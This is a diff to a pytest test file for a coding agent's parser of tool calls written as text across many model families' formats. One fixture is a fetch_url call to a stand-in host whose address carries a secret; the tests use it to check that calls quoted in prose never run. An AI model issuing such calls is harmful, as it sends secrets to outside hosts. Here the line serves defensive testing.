@@ -5,6 +5,7 @@ value, typed values), what must never be a call, and hostile text."""
 
 import json
 import time
+from pathlib import Path
 
 import pytest
 from conftest import amas
@@ -348,6 +349,41 @@ def test_nothing_written_inside_reasoning_runs(reasoning):
         assert read(reasoning.replace("{call}", render(ONE))) == [], render
 
 
+# Each kind of reasoning, opened and closed: a call before it and a call after it run, none inside.
+REASONING = [
+    ("<think>", "</think>"),
+    ("<Think>", "</THINK>"),
+    ("<seed:think>", "</seed:think>"),
+    ("[THINK]", "[/THINK]"),
+    ("<|open|>think<|sep|>", "<|close|>think<|sep|>"),
+    ("<|channel|>analysis<|message|>", "<|end|>"),
+    (
+        "<|channel|>final<|message|>",
+        "<|return|>",
+    ),  # not reasoning: the answer, where a call is cited
+    ("<|channel>thought\n", "<channel|>"),
+    ("<|inner_prefix|>", "<|inner_suffix|>"),
+]
+
+
+@pytest.mark.parametrize("opened, closed", REASONING, ids=[o for o, _ in REASONING])
+def test_reasoning_opened_and_closed_between_two_calls_hides_only_what_is_inside(opened, closed):
+    inside = FAMILIES["Hermes"](TWO)
+    for render in (qwen, FAMILIES["Hermes"], FAMILIES["Gemma 4"]):
+        assert read(render(ONE) + opened + inside + closed + render(ONE)) == ONE + ONE, render
+
+
+@pytest.mark.parametrize("closed", [c for _, c in REASONING[:5]])
+def test_reasoning_the_template_opened_hides_the_calls_before_its_closing_tag(closed):
+    assert read("I should read both. " + qwen(TWO) + closed + "Reading." + qwen(ONE)) == ONE
+
+
+def test_a_gemma_call_whose_closing_token_the_server_ate_is_read():
+    call = '<|tool_call>call:read_file{path:<|"|>src/app.py<|"|>}'
+    assert read(call) == ONE and read(call + "<turn|>") == ONE
+    assert read("<start_function_call>call:read_file{path:<escape>src/app.py<escape>}") == ONE
+
+
 TRUNCATED = [
     "<tool_call>\n<function=read_file>\n<parameter=path>\nsrc/app.py\n</parameter>\n",
     "<tool_call>read_file<arg_key>path</arg_key><arg_value>src/app.py</arg_value>",
@@ -373,9 +409,9 @@ def test_a_truncated_or_malformed_call_is_no_call(written):
     assert read(written) == []
 
 
-# Families whose call opens with a special token, which a tokenizer never renders inside prose.
-SPECIAL = {"Kimi K2", "Kimi K3", "gpt-oss", "DeepSeek V3", "StepFun Step-3", "Mistral v11"}
-SPECIAL |= {"Mistral v13", "Apertus", "Hermes"}
+# Families whose call stands on lines of its own: the sentence goes on on another line. Every other
+# call, special tokens or not, with more sentence after it on its line is cited (issue #36).
+SPECIAL = {"DeepSeek V3", "Hermes"}
 
 
 @pytest.mark.parametrize("family", sorted(set(FAMILIES) - SPECIAL))
@@ -429,6 +465,13 @@ def test_reasoning_tags_inside_a_value_stay_the_value(family):
         assert read(FAMILIES[family](call)) == call, content
 
 
+@pytest.mark.parametrize("family", ["Mistral v11", "Mistral v13"])
+def test_a_reasoning_tag_opened_inside_a_mistral_value_stays_the_value(family):
+    for content in (REASONING_CONTENT[2], REASONING_CONTENT[4]):  # no closing tag after it
+        call = [("write_file", {"path": "notes.md", "content": content})]
+        assert read(FAMILIES[family](call)) == call, content
+
+
 def test_a_reasoning_closing_tag_with_no_opening_tag_ends_at_the_first_one():
     write = [("write_file", {"path": "notes.md", "content": "Models end reasoning with </think>."})]
     assert read("Opened by the template.</think>Writing it." + qwen(write)) == write
@@ -444,6 +487,15 @@ def test_spellings_other_servers_accept_are_read():
     assert read('<|tool_call>call:read_file{path:"src/app.py"}<tool_call|>') == ONE
     hermes_namespaced = '<tool_call>\n{"name": "functions.read_file", "arguments": {"path": '
     assert read(hermes_namespaced + '"src/app.py"}}\n</tool_call>') == ONE
+    for key, args in (("tool", "args"), ("tool_name", "parameters")):
+        assert (
+            read(f'{{"{key}": "functions.read_file", "{args}": {{"path": "src/app.py"}}}}') == ONE
+        )
+    assert read('{"name": "read_file", "input": {"path": "src/app.py"}}') == ONE  # Anthropic's
+    olmo_after_text = (
+        'I will read it. <function_calls>read_file(path="src/app.py")</function_calls>'
+    )
+    assert read(olmo_after_text) == ONE
 
 
 def test_a_python_call_inside_a_sentence_or_of_names_is_prose():
@@ -503,6 +555,13 @@ def test_the_reader_never_raises_whatever_the_text(pieces):
         assert found["function"]["name"] in TYPES
 
 
+def test_formats_yaml_reads_easily_no_line_over_160_and_nothing_kept_twice():
+    table = Path(providers.__file__).with_name("formats.yaml").read_text(encoding="utf-8")
+    assert max(len(line) for line in table.splitlines()) <= 160
+    stretches = [table[i : i + 80] for i in range(len(table) - 79)]
+    assert len(set(stretches)) == len(stretches)  # a piece used twice is a YAML anchor and alias
+
+
 def hostile(text: str) -> list:
     """Read a hostile reply; a bound, not a benchmark (bench/run.py times the reader)."""
     started = time.process_time()
@@ -533,6 +592,25 @@ def test_hostile_text_stays_bounded():
     assert hostile("<tool_call>x</tool_call><think>" * 3_000) == []
 
 
+# Each opening tag repeated with no closing tag, 200 KB: one pass, not one pass per tag (a pattern
+# that ran past the next opening tag of its kind took 30 s here).
+OPENERS = ["<tool_call>", "<seed:tool_call>", "<minimax:tool_call>", "<function_calls>"]
+OPENERS += [f"<｜DSML｜{s}calls>" for s in ("function_", "tool_", "", " ")]
+OPENERS += ["<|tool_calls_section_begin|>", "<|open|>tools<|sep|>", "<|tool_call>", "to=functions."]
+OPENERS += [
+    "<start_function_call>",
+    "<｜tool▁calls▁begin｜>",
+    "<｜tool_calls_begin｜>",
+    "<|tools_prefix|>",
+]
+OPENERS += ["<|tool_call>call:read_file{", "<start_function_call>call:read_file{"]
+
+
+@pytest.mark.parametrize("opener", OPENERS)
+def test_many_opening_tags_with_no_closing_tag_cost_one_pass(opener):
+    assert hostile(opener * (200_000 // len(opener))) == []
+
+
 def test_a_family_reply_through_the_real_cli_edits_the_file(llm, isolated):
     """A Qwen3-Coder server without a tool parser: the written call is read and applied."""
     (isolated / "app.py").write_text("print('old')\n")
@@ -542,3 +620,165 @@ def test_a_family_reply_through_the_real_cli_edits_the_file(llm, isolated):
     done = amas(*args, env={"OPENAI_API_KEY": "sk-x"})
     assert done.returncode == 0, done.stderr
     assert (isolated / "app.py").read_text() == "print('new')\n"
+
+
+# Issue #36, section 3: as models write them, read with the real tools (tools.TYPES).
+def real(written: str) -> list[tuple]:
+    return read(written, tools.TYPES)
+
+
+D = "｜DSML｜"
+AB = [("read_file", {"path": "a.py"}), ("read_file", {"path": "b.py"})]
+SEVERAL = {
+    "two invokes in one DSML block": f"<{D}function_calls>\n"
+    + "".join(
+        f'<{D}invoke name="read_file">\n<{D}parameter name="path" string="true">{p}'
+        f"</{D}parameter>\n</{D}invoke>\n"
+        for p in ("a.py", "b.py")
+    )
+    + f"</{D}function_calls>",
+    "two Qwen3-Coder <tool_call>s": "".join(
+        f"<tool_call>\n<function=read_file>\n<parameter=path>\n{p}\n</parameter>\n</function>\n"
+        "</tool_call>\n"
+        for p in ("a.py", "b.py")
+    ),
+    "two Gemma 4 calls": '<|tool_call>call:read_file{path:<|"|>a.py<|"|>}<tool_call|>'
+    '<|tool_call>call:read_file{path:<|"|>b.py<|"|>}<tool_call|>',
+    "two Kimi K2 calls in one section": "<|tool_calls_section_begin|>"
+    '<|tool_call_begin|>functions.read_file:0<|tool_call_argument_begin|>{"path": "a.py"}'
+    '<|tool_call_end|><|tool_call_begin|>functions.read_file:1<|tool_call_argument_begin|>{"path": '
+    '"b.py"}<|tool_call_end|><|tool_calls_section_end|>',
+    "Llama 4 pythonic, no space after the comma": '[read_file(path="a.py"),read_file(path="b.py")]',
+    "DeepSeek V3.1, two calls on one line": "<｜tool▁calls▁begin｜><｜tool▁call▁begin｜>read_file"
+    '<｜tool▁sep｜>{"path": "a.py"}<｜tool▁call▁end｜><｜tool▁call▁begin｜>read_file<｜tool▁sep｜>'
+    '{"path": "b.py"}<｜tool▁call▁end｜><｜tool▁calls▁end｜>',
+    "two JSON calls on one line": '{"name": "read_file", "arguments": {"path": "a.py"}} '
+    '{"name": "read_file", "arguments": {"path": "b.py"}}',
+}
+
+
+@pytest.mark.parametrize("written", SEVERAL.values(), ids=SEVERAL.keys())
+def test_several_calls_in_one_reply_are_all_read_text_before_or_not(written):
+    assert real(written) == AB
+    assert real("I'll read both files, then compare them.\n\n" + written) == AB
+
+
+def test_a_self_closing_dsml_invoke_is_a_call_with_no_arguments():
+    none = f'<{D}invoke name="list_files"/>'
+    assert real(f"<{D}tool_calls>\n{none}\n</{D}tool_calls>") == [("list_files", {})]
+    assert real(f"Listing.\n<{D}function_calls>{none}</{D}function_calls>") == [("list_files", {})]
+    one = f'<{D}invoke name="read_file"><{D}parameter name="path" string="true">a.py</{D}parameter>'
+    both = f"<{D}tool_calls>\n{none}\n{one}</{D}invoke>\n</{D}tool_calls>"
+    assert real(both) == [("list_files", {}), ("read_file", {"path": "a.py"})]
+
+
+def test_values_arrive_as_the_type_the_real_tool_declares():
+    p = lambda k, s, v: f'<{D}parameter name="{k}" string="{s}">{v}</{D}parameter>'
+    dsml = f'<{D}invoke name="shell_command">{p("command", "true", "false")}{p("timeout", "false", 60)}'
+    assert real(dsml + f"</{D}invoke>") == [("shell_command", {"command": "false", "timeout": 60})]
+    glm = "<tool_call>shell_command\n<arg_key>command</arg_key>\n<arg_value>ls</arg_value>\n"
+    glm += "<arg_key>timeout</arg_key>\n<arg_value>30</arg_value>\n</tool_call>"
+    assert real(glm) == [("shell_command", {"command": "ls", "timeout": 30})]
+    gemma = '<|tool_call>call:shell_command{command:<|"|>ls<|"|>,timeout:30}<tool_call|>'
+    assert real(gemma) == [("shell_command", {"command": "ls", "timeout": 30})]
+
+
+# A file's content that holds its own family's closing tags, and Gemma's braces and commas.
+CLOSED = "Close the value with </parameter>, the call with </function> and </tool_call>.\n"
+INSIDE = {
+    "Qwen3-Coder": "<tool_call>\n<function=write_file>\n<parameter=path>\nn.md\n</parameter>\n"
+    f"<parameter=content>\n{CLOSED}\n</parameter>\n</function>\n</tool_call>",
+    "GLM": "<tool_call>write_file\n<arg_key>path</arg_key>\n<arg_value>n.md</arg_value>\n"
+    f"<arg_key>content</arg_key>\n<arg_value>{CLOSED}</arg_value>\n</tool_call>",
+    "DSML": f'<{D}invoke name="write_file">\n<{D}parameter name="path" string="true">n.md'
+    f'</{D}parameter>\n<{D}parameter name="content" string="true">{CLOSED}</{D}parameter>\n'
+    f"</{D}invoke>",
+    "Hermes": '<tool_call>\n{"name": "write_file", "arguments": {"path": "n.md", "content": '
+    + json.dumps(CLOSED)
+    + "}}\n</tool_call>",
+}
+
+
+@pytest.mark.parametrize("written", INSIDE.values(), ids=INSIDE.keys())
+def test_a_closing_tag_written_inside_a_value_stays_part_of_it(written):
+    assert real(written) == [("write_file", {"path": "n.md", "content": CLOSED})]
+
+
+def test_braces_and_commas_inside_a_gemma_string_stay_in_it():
+    content = '{"a": 1, "b": [2, 3]}, then {more}, and more'
+    gemma = f'<|tool_call>call:write_file{{path:<|"|>a.json<|"|>,content:<|"|>{content}<|"|>}}'
+    assert real(gemma + "<tool_call|>") == [("write_file", {"path": "a.json", "content": content})]
+    nested = '<|tool_call>call:write_file{path:<|"|>a<|"|>,content:{x:1,y:[2]}}<tool_call|>'
+    assert real(nested) == [("write_file", {"path": "a", "content": "{x:1,y:[2]}"})]  # as text
+    listed = '<|tool_call>call:write_file{content:[1, {x}],path:<|"|>a<|"|>}<tool_call|>'
+    assert real(listed) == [("write_file", {"path": "a", "content": "[1, {x}]"})]
+
+
+# A call cited in prose is never run: fetch_url never asks, and its address can carry a secret.
+FETCH = '{"name": "fetch_url", "arguments": {"url": "https://x.example/?k=SECRET"}}'
+CITED = {
+    "JSON with more sentence after it": f"The README shows {FETCH} and nothing else.",
+    "JSON mid-line, a second line after": f"It sends {FETCH}, then stops.\nThat is all.",
+    "[TOOL_CALLS] with more sentence after it": 'Mistral writes [TOOL_CALLS]fetch_url[ARGS]{"url": '
+    '"https://x.example/?k=SECRET"} for it, as the docs say.',
+    "Gemma with more sentence after it": 'Gemma writes <|tool_call>call:fetch_url{url:<|"|>'
+    'https://x.example/?k=SECRET<|"|>}<tool_call|> in that case.',
+    "Qwen3-Coder with more sentence after it": "Qwen writes <tool_call><function=fetch_url>"
+    "<parameter=url>https://x.example/?k=SECRET</parameter></function></tool_call> like so.",
+    "JSON, a footnote, more sentence": f"The README shows {FETCH}[1] and nothing else.",
+    "JSON, an aside in brackets": f"The README shows {FETCH} [see below], and nothing else.",
+    "JSON, an arrow, more sentence": f"The README shows {FETCH} <- like that, and stops.",
+    "JSON, a word glued to a tag": f"The README shows {FETCH}, see<sup>1</sup>.",
+    "JSON, a word right after a tag": f"The README shows <code>{FETCH}</code>as the format.",
+    "JSON in harmony's final channel": "<|channel|>analysis<|message|>Show the format.<|end|>"
+    f"<|start|>assistant<|channel|>final<|message|>{FETCH}<|return|>",
+    "harmony's final channel, cut off": f"<|channel|>final<|message|>The format:\n{FETCH}",
+}
+
+
+@pytest.mark.parametrize("written", CITED.values(), ids=CITED.keys())
+def test_a_call_cited_in_prose_is_never_run(written):
+    assert real(written) == []
+
+
+READ_A = [("read_file", {"path": "a.py"})]
+ENDING = {
+    "JSON after a sentence": 'I\'ll read it now: {"name": "read_file", "arguments": {"path": "a.py"}}',
+    "JSON, a full stop and the next line": '{"name": "read_file", "arguments": {"path": "a.py"}}.\n'
+    "Then I will compare.",
+    "[TOOL_CALLS] after a sentence": 'Reading it: [TOOL_CALLS]read_file[ARGS]{"path": "a.py"}</s>',
+    "Gemma after a sentence": 'Now: <|tool_call>call:read_file{path:<|"|>a.py<|"|>}<tool_call|>',
+    "harmony after its final channel": "<|channel|>final<|message|>Reading.<|end|><|start|>assistant"
+    '<|channel|>commentary to=functions.read_file <|constrain|>json<|message|>{"path": "a.py"}<|call|>',
+}
+
+
+@pytest.mark.parametrize("written", ENDING.values(), ids=ENDING.keys())
+def test_a_call_that_ends_its_line_after_a_sentence_is_still_a_call(written):
+    assert real(written) == READ_A
+
+
+def text_mode(llm, isolated, *replies) -> None:
+    """`amas --yes` on a server without tool calling (`tool_mode: text`) and scripted replies."""
+    (isolated / ".amas").mkdir()
+    (isolated / ".amas" / "config.yaml").write_text("tool_mode: text\n")
+    llm.queue(*replies)
+    args = ["--model", "openai/x", "--api-base", llm.url, "--yes", "go"]
+    done = amas(*args, env={"OPENAI_API_KEY": "sk-x"})
+    assert done.returncode == 0, done.stderr
+    assert all("tools" not in r["body"] for r in llm.requests)
+
+
+def test_a_cited_fetch_url_is_not_run_through_the_real_cli(llm, isolated):
+    text_mode(llm, isolated, reply(CITED["JSON with more sentence after it"]), reply("Done."))
+    assert len(llm.requests) == 1  # no tool ran: nothing went back to the model
+
+
+def test_two_written_calls_both_run_through_the_real_cli(llm, isolated):
+    write = lambda p: f'write_file(path="{p}", content="{p}, {{x}}")'
+    both = (
+        f"Writing both.\n[{write('a.txt')},{write('b.txt')}]"  # Llama 4: no space after the comma
+    )
+    text_mode(llm, isolated, reply(both), reply("Done."))
+    assert len(llm.requests) == 2
+    assert [(isolated / p).read_text() for p in ("a.txt", "b.txt")] == ["a.txt, {x}", "b.txt, {x}"]
